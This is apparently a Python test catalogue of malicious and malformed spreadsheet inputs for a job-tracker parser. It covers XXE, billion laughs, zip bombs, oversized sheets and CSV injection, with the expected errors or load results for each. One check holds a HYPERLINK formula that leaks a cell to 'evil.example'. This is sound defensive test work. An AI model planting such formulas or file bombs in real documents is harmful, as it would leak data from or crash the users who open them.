"""Catalogue of bad, broken and hostile inputs, with the documented expected outcome.

Each :class:`Case` names a file, the function that writes it (in
:mod:`bad_inputs.make_corpus`), and what jobstats must do with it: refuse it
with a given exception and a message holding given fragments (file name,
sheet/row/column, what to do), or load it with a given number of applications /
dropped rows / warnings. Expected numbers are written by hand from the file's
content, never computed by jobstats.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
from bad_inputs import make_corpus as mk
from bad_inputs.make_corpus import INJECTIONS, LONG_ROWS, NONASCII, ROWS, WIDE_COLS

from jobstats.schema import (
    HeaderNotFoundError,
    InputError,
    JobstatsError,
    MissingColumnError,
    UnreadableFileError,
    UnsupportedFormatError,
)

AS_OF = "2025-06-30"  # the --as-of every case is run with


@dataclass(frozen=True)
class Case:
    """One bad input and what jobstats must do with it.

    ``outcome`` is ``"error"`` (``load`` raises ``error`` whose message holds the
    file name and every fragment; CLI exit 2), ``"ok"`` (``load`` returns
    ``applications`` rows, ``dropped`` rows reported, each ``warnings`` fragment in
    some warning; CLI exit 0), or ``"empty"`` (nothing to analyse: ``load``
    returns a result with no application; CLI exit 2 naming the file and each
    fragment). ``rows`` is the number of non-blank data rows in the file:
    for ``"ok"`` every one of them must be kept or reported as dropped.
    ``check`` makes extra assertions on the load result, ``cli_check`` on the
    CLI's JSON. ``slow`` marks the files that take a second to build (bombs,
    the 300,000-row sheet); the slow ``"ok"`` case is only run through the CLI,
    which loads the file the same way, under the memory limit. Fragments are
    matched case-insensitively, ignoring white space (the CLI wraps lines).
    """

    name: str
    filename: str
    build: Callable[[Path], None]
    outcome: str
    doc: str
    error: type[JobstatsError] | None = None
    fragments: tuple[str, ...] = ()
    rows: int | None = None
    applications: int | None = None
    dropped: int | None = None
    warnings: tuple[str, ...] = ()
    check: Callable[[object], None] | None = None
    cli_check: Callable[[dict], None] | None = None  # on the CLI's JSON output
    slow: bool = False


# --- checks on load results ------------------------------------------------


def _apps(result: object) -> pd.DataFrame:
    return result.applications  # type: ignore[attr-defined]


def _applied_dates(result: object) -> list[str]:
    return sorted(_apps(result)["applied_on"].dt.strftime("%Y-%m-%d"))


def _reply_of(result: object, company: str) -> pd.Timestamp:
    a = _apps(result)
    return a.loc[a["company"] == company, "first_reply_on"].iloc[0]


BASE_APPLIED = sorted(r[2] for r in ROWS)


def c_base_dates(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_merged(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED
    assert "Job hunt 2025 - keep going!" not in set(_apps(result)["company"].dropna())


def c_formulas(result: object) -> None:
    assert _applied_dates(result) == ["2025-03-01", "2025-03-03", "2025-03-10"]
    assert set(_apps(result)["company"]) == {"Acme Corp", "Globex", "Initech"}
    assert _reply_of(result, "Acme Corp") == pd.Timestamp("2025-03-05")
    assert _reply_of(result, "Initech") == pd.Timestamp("2025-03-14")


def c_future(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_reply_before(result: object) -> None:
    a = _apps(result)
    acme = a.loc[a["company"] == "Acme Corp"].iloc[0]
    assert pd.isna(acme["first_reply_on"]) or acme["first_reply_on"] >= acme["applied_on"]


def c_same_day(result: object) -> None:
    assert _reply_of(result, "Globex") == pd.Timestamp("2025-03-03")


def c_no_year(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED  # no year invented for "8-Jul"


def c_two_digit(result: object) -> None:
    assert _applied_dates(result) == ["2022-06-02", "2022-06-18", "2022-07-04", "2022-12-30"]


def c_mixed_md_dm(result: object) -> None:
    # Whatever is kept must be a correct reading: 25/03 and 27/04 are D/M,
    # 03/26 and 05/28 are M/D; 04/02 is ambiguous (April 2 or 4 February).
    ok = {"2025-03-25", "2025-03-26", "2025-04-27", "2025-05-28", "2025-04-02", "2025-02-04"}
    assert set(_applied_dates(result)) <= ok


def c_1904(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED
    assert _reply_of(result, "Hooli") == pd.Timestamp("2025-04-20")


def c_timezones(result: object) -> None:
    a = _apps(result)
    assert a["applied_on"].dt.tz is None, "applied_on must be tz-naive"
    assert _applied_dates(result) == BASE_APPLIED  # the local day as written


def _companies(names: list[str]) -> Callable[[object], None]:
    def check(result: object) -> None:
        assert set(_apps(result)["company"]) == set(names)
    return check


def c_semicolon(result: object) -> None:
    assert _applied_dates(result) == ["2025-03-13", "2025-04-01", "2025-05-02"]
    assert set(_apps(result)["company"]) == {"Acme GmbH", "Globex AG", "Initech SE"}


def c_newlines(result: object) -> None:
    a = _apps(result)
    note = a.loc[a["company"] == "Acme Corp", "notes"].iloc[0]
    assert note == 'Line one\nLine two, with a comma\n"quoted" line three'
    assert _applied_dates(result) == BASE_APPLIED


def c_long(result: object) -> None:
    a = _apps(result)
    assert a["applied_on"].min() == pd.Timestamp("2020-01-01")
    assert int(a["first_reply_on"].notna().sum()) == -(-LONG_ROWS // 3)


def j_long(out: dict) -> None:
    assert out["first_applied"] == "2020-01-01"
    # A reply is on record when row i has a reply date (i % 3 == 0) or a status
    # saying so (i % 4 in {1, 2}: Rejected, Interview). Per 12 rows: 4 + 6 - 2
    # (i = 6, 9 have both) = 8.
    assert LONG_ROWS % 12 == 0
    assert out["responses"] == LONG_ROWS // 12 * 8


def c_hidden_sheet(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED  # the visible sheet, hidden row included


def c_duplicates(result: object) -> None:
    assert (_apps(result)["company"] == "Globex").sum() == 2


def c_status_dates(result: object) -> None:
    a = _apps(result).set_index("company")
    assert a.loc["Umbrella", "first_reply_on"] == pd.Timestamp("2025-04-10")
    assert a.loc["Umbrella", "stage"] != "applied"
    assert a.loc["Globex", "stage"] == "interview"


def c_blank_total(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_missing_date(result: object) -> None:
    assert "Umbrella" not in set(_apps(result)["company"])


def c_hyperlink(result: object) -> None:
    names = set(_apps(result)["company"])
    assert '=HYPERLINK("http://x","y")' in names
    a = _apps(result)
    note = a.loc[a["company"] == "Globex", "notes"].iloc[0]
    assert note == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def c_xlsx_hyperlink(result: object) -> None:
    assert "y" in set(_apps(result)["company"])  # the cached value Excel shows


# --- the catalogue -----------------------------------------------------------

_N = len(ROWS)
_RESAVE = ("xlsx", "csv")

CASES: tuple[Case, ...] = (
    # refused before parsing
    Case("empty_file", "empty.csv", mk.b_empty, "error", "0-byte file",
         UnreadableFileError, ("empty",)),
    Case("missing_file", "does_not_exist.csv", mk.b_missing, "error", "path that does not exist",
         InputError, ("check the path",)),
    Case("directory", "a_folder.csv", mk.b_directory, "ok",
         "a folder given as the file: read as a coach's folder, each file inside one client",
         rows=1, applications=1),
    Case("corrupt_zip", "corrupt.xlsx", mk.b_corrupt_zip, "error",
         "zip magic followed by random bytes", UnreadableFileError, ("damaged", *_RESAVE)),
    Case("truncated_xlsx", "truncated.xlsx", mk.b_truncated_xlsx, "error",
         "a real workbook cut in half (interrupted download)", UnreadableFileError, ("damaged",)),
    Case("legacy_xls", "old_tracker.xls", mk.b_legacy_xls, "error",
         "Excel 97-2003 compound file with a Workbook stream", UnsupportedFormatError,
         ("re-save as .xlsx or CSV",)),
    Case("legacy_xls_named_xlsx", "old_renamed.xlsx", mk.b_legacy_xls, "error",
         "a legacy .xls renamed .xlsx: the content decides", UnsupportedFormatError,
         ("re-save as .xlsx or CSV",)),
    Case("password_xlsx", "locked.xlsx", mk.b_password_xlsx, "error",
         "password-protected workbook: OLE2 with EncryptionInfo/EncryptedPackage streams",
         UnreadableFileError, ("password-protected", "remove the password")),
    Case("xxe", "xxe.xlsx", mk.b_xxe, "error", "sheet XML declares an external entity",
         UnreadableFileError, ("DOCTYPE", "sheet1.xml")),
    Case("billion_laughs", "lol.xlsx", mk.b_billion_laughs, "error",
         "sheet XML with nested entities (10^9 expansion)", UnreadableFileError,
         ("DOCTYPE", "sheet1.xml")),
    Case("doctype_after_long_comment", "comment_xxe.xlsx", mk.b_doctype_after_long_comment, "error",
         "a DOCTYPE hidden after a 200 KB comment", UnreadableFileError, ("DOCTYPE",)),
    Case("doctype_utf16", "utf16_xxe.xlsx", mk.b_doctype_utf16, "error",
         "a DOCTYPE in a UTF-16 encoded member", UnreadableFileError, ("DOCTYPE", "sheet2.xml")),
    Case("ods_xxe", "xxe.ods", mk.b_ods_xxe, "error", "OpenDocument content.xml with an entity",
         UnreadableFileError, ("DOCTYPE", "content.xml")),
    Case("zip_bomb_total", "bomb_total.xlsx", mk.b_zip_bomb_total, "error",
         "a 600 MB member of zeros (~2.7 MB on disk): over the total limit",
         UnreadableFileError, ("zip bomb",), slow=True),
    Case("zip_bomb_ratio", "bomb_ratio.xlsx", mk.b_zip_bomb_ratio, "error",
         "a 100 MB member of zeros: compression ratio ~1000", UnreadableFileError,
         ("zip bomb", "image1.bin"), slow=True),
    Case("zip_lying_size", "lying.xlsx", mk.b_zip_lying_size, "error",
         "a 20 MB member declaring 2,000 bytes (a bomb that lies about its size)",
         UnreadableFileError, ("damaged", "sheet1.xml")),
    Case("far_stray_cell", "far_cell.xlsx", mk.b_far_stray_cell, "error",
         "one cell at XFD1048576: a 17-billion-cell rectangle from 2 KB",
         UnreadableFileError, ("Applications", "XFD1048576", "Ctrl+End")),
    Case("far_cell_wide", "far_wide.xlsx", mk.b_far_cell_wide, "error",
         "one cell at ZZ20000: 702 columns x 20,000 rows, each alone unremarkable",
         UnreadableFileError, ("Applications", "ZZ20000", "Ctrl+End")),
    Case("far_cell_long_tag", "far_long_tag.xlsx", mk.b_far_cell_long_tag, "error",
         "a cell at ZZ20000 behind a 70 KB attribute that crosses a 1 MiB piece of the sheet",
         UnreadableFileError, ("Applications", "ZZ20000", "Ctrl+End")),
    Case("far_cell_moved_sheet", "far_moved.xlsx", mk.b_far_cell_moved_sheet, "error",
         "the ZZ20000 sheet stored at xl/data/sheet1.xml, where the relationships point",
         UnreadableFileError, ("Applications", "ZZ20000", "Ctrl+End")),
    Case("far_cell_leading_zeros", "far_zeros.xlsx", mk.b_far_cell_leading_zeros, "error",
         "one cell written AB0400000 (a leading zero before row 400,000)",
         UnreadableFileError, ("Applications", "AB400000", "Ctrl+End")),
    Case("far_row_tag", "far_row.xlsx", mk.b_far_row_tag, "error",
         "a <row r=\"999999\"> holding a cell at Z1: the row tag alone is far",
         UnreadableFileError, ("Applications", "Z999999", "Ctrl+End")),
    Case("ods_repeated_cells", "repeated.ods", mk.b_ods_repeated_cells, "error",
         "one cell repeated 9,000 x 10,000 times", UnreadableFileError,
         ("Tracker", "too large")),
    Case("too_many_members", "many_parts.xlsx", mk.b_too_many_members, "error",
         "10,001 extra members", UnreadableFileError, ("parts",)),
    Case("nested_zip", "nested.xlsx", mk.b_nested_zip, "error", "a zip inside the workbook",
         UnreadableFileError, ("nested", "payload.bin")),
    Case("encrypted_member", "zipcrypto.xlsx", mk.b_encrypted_member, "error",
         "members flagged as ZipCrypto-encrypted", UnreadableFileError,
         ("encrypted", "password")),
    Case("pdf_named_xlsx", "tracker.xlsx.pdf.xlsx", mk.b_pdf, "error", "a PDF with an xlsx name",
         UnsupportedFormatError, ("PDF",)),
    Case("binary_garbage", "garbage.csv", mk.b_binary_garbage, "error",
         "random bytes with NULs named .csv", UnreadableFileError, ("binary",)),
    Case("html_named_xls", "export.xls", mk.b_html_as_xls, "error",
         "a web page saved as .xls by a web app", UnsupportedFormatError, ("web page",)),
    # refused by the loader (content)
    Case("header_only", "header_only.csv", mk.b_header_only, "empty",
         "header row and nothing else: load returns no application, the CLI says so",
         fragments=("no application rows",)),
    Case("blank_lines_only", "blank.csv", mk.b_blank_lines_only, "error",
         "only blank lines and empty cells", HeaderNotFoundError, ("no header row",)),
    Case("empty_sheet", "empty_sheet.xlsx", mk.b_empty_sheet, "error", "a workbook with no cells",
         HeaderNotFoundError, ("Sheet1", "no header row")),
    Case("no_date_column", "no_dates.csv", mk.b_no_date_column, "error",
         "no column holds the applied date", MissingColumnError, ("date",)),
    Case("no_header", "shopping.csv", mk.b_no_header, "error",
         "nothing looks like a tracker header", HeaderNotFoundError, ()),
    # loaded, with what was dropped reported
    Case("xlsx_named_csv", "tracker_xlsx.csv", mk.b_xlsx_named_csv, "ok",
         "a real workbook with a .csv name: read by content", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("csv_named_xlsx", "tracker_csv.xlsx", mk.b_csv_named_xlsx, "ok",
         "a CSV with an .xlsx name: read by content", rows=_N, applications=_N, dropped=0,
         check=c_base_dates),
    Case("merged_header", "merged.xlsx", mk.b_merged_header, "ok",
         "merged title row above the header; a company merged over two rows",
         rows=_N, applications=_N, dropped=0, check=c_merged),
    Case("duplicated_headers", "dup_headers.csv", mk.b_duplicated_headers, "ok",
         "two columns called Notes: both kept under unique names", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("header_below_row_20", "deep_header.xlsx", mk.b_header_below_row_20, "ok",
         "22 lines of instructions, header on row 24", rows=_N, applications=_N,
         check=c_base_dates),
    Case("excel_errors", "errors.xlsx", mk.b_excel_errors, "ok",
         "#REF! in the applied date (row dropped, reported); #N/A / #VALUE! elsewhere (kept)",
         rows=_N + 4, applications=_N + 3, dropped=1, warnings=("#REF!",)),
    Case("formulas_cached", "formulas.xlsx", mk.b_formulas_cached, "ok",
         "dates, text and numbers from formulas: the cached values are used",
         rows=3, applications=3, dropped=0, check=c_formulas),
    Case("future_dates", "future.csv", mk.b_future_dates, "ok",
         "applied in 2030/2031, after the as-of date: dropped and reported",
         rows=_N + 2, applications=_N, dropped=2, warnings=("2031",), check=c_future),
    Case("reply_before_application", "reply_before.csv", mk.b_reply_before_application, "ok",
         "reply dated before the application: application kept, reply not trusted, warned",
         rows=_N, applications=_N, dropped=0, warnings=("before",), check=c_reply_before),
    Case("reply_same_day", "same_day.csv", mk.b_reply_same_day, "ok",
         "reply on the application day: a reply at day 0", rows=_N, applications=_N,
         dropped=0, check=c_same_day),
    Case("dates_without_year", "no_year.csv", mk.b_dates_without_year, "ok",
         "'8-Jul' with no year: not guessed; rows dropped and reported",
         rows=_N + 2, applications=_N, dropped=2, warnings=("8-Jul",), check=c_no_year),
    Case("garbled_dates", "garbled.csv", mk.b_garbled_dates, "ok",
         "'8/82019': dropped and reported", rows=_N + 1, applications=_N, dropped=1,
         warnings=("8/82019",), check=c_base_dates),
    Case("two_digit_years", "linkedin.csv", mk.b_two_digit_years, "ok",
         "LinkedIn 'M/D/YY, h:mm AM': 22 is 2022", rows=4, applications=4, dropped=0,
         check=c_two_digit),
    Case("mixed_md_dm", "mixed_order.csv", mk.b_mixed_md_dm, "ok",
         "D/M and M/D in one column: never a wrong date; the ambiguity is reported",
         rows=_N, warnings=("month",), check=c_mixed_md_dm),
    Case("date1904", "mac1904.xlsx", mk.b_date1904, "ok",
         "workbook in the 1904 date system: serials 1462 days smaller", rows=_N,
         applications=_N, dropped=0, check=c_1904),
    Case("timezones", "tz.csv", mk.b_timezones, "ok",
         "ISO timestamps with offsets: tz-naive, the local day as written", rows=_N,
         applications=_N, dropped=0, check=c_timezones),
    Case("cp1252", "cp1252.csv", mk.b_cp1252, "ok", "Windows-1252 text (en dash, accents)",
         rows=_N, applications=_N, dropped=0,
         check=_companies([*NONASCII[:2], "Crème Brûlée", "Naïve Bayes", "Señor Data"])),
    Case("latin1", "latin1.csv", mk.b_latin1, "ok", "ISO-8859-1 text", rows=_N, applications=_N,
         dropped=0, check=_companies(["Zürich Re", "Ångström AB", "Øresund", "Façade",
                                      "Großbank"])),
    Case("utf16", "unicode.txt", mk.b_utf16, "ok", "Excel 'Unicode Text': UTF-16 LE, BOM, tabs",
         rows=_N, applications=_N, dropped=0, check=_companies(NONASCII)),
    Case("utf8_bom", "bom.csv", mk.b_utf8_bom, "ok", "UTF-8 with BOM before the first header",
         rows=_N, applications=_N, dropped=0, check=c_base_dates),
    Case("semicolon_decimal_comma", "german.csv", mk.b_semicolon_decimal_comma, "ok",
         "';' separated, decimal commas, D.M.YYYY dates", rows=3, applications=3, dropped=0,
         check=c_semicolon),
    Case("quoted_newlines", "newlines.csv", mk.b_quoted_newlines, "ok",
         "notes with line breaks inside quotes", rows=_N, applications=_N, dropped=0,
         check=c_newlines),
    Case("long_sheet", "long.csv", mk.b_long_sheet, "ok", f"{LONG_ROWS:,} rows", rows=LONG_ROWS,
         applications=LONG_ROWS, dropped=0, check=c_long, cli_check=j_long, slow=True),
    Case("wide_sheet", "wide.xlsx", mk.b_wide_sheet, "ok", f"{WIDE_COLS:,} columns", rows=_N,
         applications=_N, dropped=0, check=c_base_dates),
    Case("hidden_sheet_rows_cols", "hidden.xlsx", mk.b_hidden_sheet_rows_cols, "ok",
         "hidden sheet of old applications (not used); hidden row and date column (used)",
         rows=_N, applications=_N, dropped=0, check=c_hidden_sheet),
    Case("stray_cell_nearby", "stray_z5000.xlsx", mk.b_stray_cell_nearby, "ok",
         "a stray space at Z5000: the sheet is read, the blank row ignored", rows=_N,
         applications=_N, dropped=0, check=c_base_dates),
    Case("stray_cell_wide_nearby", "stray_zz100.xlsx", mk.b_stray_cell_wide_nearby, "ok",
         "a stray space at ZZ100 (702 x 100 cells): the sheet is read, the blank row ignored",
         rows=_N, applications=_N, dropped=0, check=c_base_dates),
    Case("ods_libreoffice_edges", "libreoffice.ods", mk.b_ods_libreoffice_edges, "ok",
         "rows padded with empty cells to column 1024 and to row 1,048,576, as LibreOffice "
         "writes them", rows=_N, applications=_N, dropped=0, check=c_base_dates),
    Case("hidden_rows", "hidden_rows.xlsx", mk.b_hidden_rows, "ok",
         "rows hidden to tidy up are still applications", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("duplicates", "dups.csv", mk.b_duplicates, "ok",
         "same company, title and date twice: kept and warned", rows=_N + 2,
         applications=_N + 2, dropped=0, warnings=("duplicate",), check=c_duplicates),
    Case("status_contradicts_dates", "contradict.csv", mk.b_status_contradicts_dates, "ok",
         "'Ghosted' with a reply date; 'Applied' with an interview date: the dates win",
         rows=_N, applications=_N, dropped=0, check=c_status_dates),
    Case("blank_rows_and_total", "total.csv", mk.b_blank_rows_and_total, "ok",
         "blank rows inside, a 'Total: 5' line at the bottom (dropped, reported)",
         rows=_N + 1, applications=_N, dropped=1, check=c_blank_total),
    Case("missing_applied_date", "no_date_row.csv", mk.b_missing_applied_date, "ok",
         "one row without an applied date: dropped and reported", rows=_N,
         applications=_N - 1, dropped=1, check=c_missing_date),
    Case("hyperlink_formula_csv", "hyperlink.csv", mk.b_hyperlink_formula, "ok",
         "=HYPERLINK(...) text in a CSV: kept verbatim, never evaluated", rows=_N,
         applications=_N, dropped=0, check=c_hyperlink),
    Case("csv_injection", "injection.csv", mk.b_csv_injection, "ok",
         "cells starting with = + - @: kept verbatim as text", rows=_N, applications=_N,
         dropped=0, check=_companies(INJECTIONS)),
    Case("hyperlink_formula_xlsx", "hyperlink.xlsx", mk.b_xlsx_hyperlink_formula, "ok",
         "a HYPERLINK formula in a workbook: its cached text", rows=_N, applications=_N,
         dropped=0, check=c_xlsx_hyperlink),
)


#: Cases :func:`jobstats.io.safety.check_file` itself must refuse, before any parser.
EARLY: frozenset[str] = frozenset(
    c.name for c in CASES
    if c.outcome == "error" and c.error in (UnreadableFileError, UnsupportedFormatError, InputError)
)


def write_case(case: Case, folder: Path) -> Path:
    """Write ``case`` into ``folder``; return the path given to jobstats."""
    path = Path(folder) / case.filename
    case.build(path)
    return path


